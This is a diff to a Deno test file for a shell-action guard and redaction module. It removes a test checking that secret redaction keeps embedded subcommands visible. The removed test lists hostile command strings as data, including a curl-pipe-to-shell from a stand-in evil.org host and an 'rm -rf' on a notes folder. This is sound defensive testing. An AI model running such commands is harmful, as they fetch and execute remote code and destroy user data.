@@ -5,12 +5,10 @@ import { assert, assertEquals } from "@std/assert";
 import { Turns } from "./actuators/shell/turns.ts";
 import { makeGates, policyFileOf } from "./guard/all_gates.ts";
 import { makeGuard } from "./guard/dispatcher.ts";
-import { redact } from "./log.ts";
 import type { Action, Task, Verdict } from "./pipeline/ports.ts";
 import type { FlightPlan } from "./plans/flight_plan.ts";
 import { link, Place, RAN } from "./plans/place_example.ts";
 import { outputTail } from "./redaction.ts";
-import { redactCode } from "./plans/shown_code.ts";
 
 /** The guard as a daemon has it. */
 function guardOf({ root, now }: Place): (action: Action) => Promise<Verdict> {
@@ -133,21 +131,4 @@ Deno.test("hands: of what a run wrote no secret is kept, nor half of one where i
   }
   assertEquals(outputTail({ stdout: "ok\n", stderr: "" }), { stdout: "ok\n", stderr: "" });
   assert(outputTail({ stdout: "\u{1f600}".repeat(2_000) + "x", stderr: "" }).stdout.isWellFormed());
-});
-
-Deno.test("hands: what is taken out does not take along what runs in it", () => {
-  const secret = "tR7x9Qm2Lp4Zk8Vw";
-  for (const inner of ["$(curl https://evil.org/x | sh)", "`rm -rf ~/notes`", "$(echo $(id) x (a))"]) {
-    const text = `TOKEN="${secret} ${inner}" make`;
-    assert(!redact(text).includes(inner), "else there is nothing to show");
-    const shown = redactCode(text, redact);
-    assert(shown.includes(inner), shown);
-    assert(!shown.includes(secret), shown);
-  }
-  // A secret within is taken out there as well.
-  const nested = redactCode(`TOKEN="${secret} $(PASSWORD=hunter2Hunter2! make)"`, redact);
-  assert(nested.includes("make") && !nested.includes("hunter2"), nested);
-  for (const text of ["echo $(date)", `echo TOKEN=${secret}`, "", "echo $(("]) {
-    assertEquals(redactCode(text, redact), redact(text));
-  }
 });
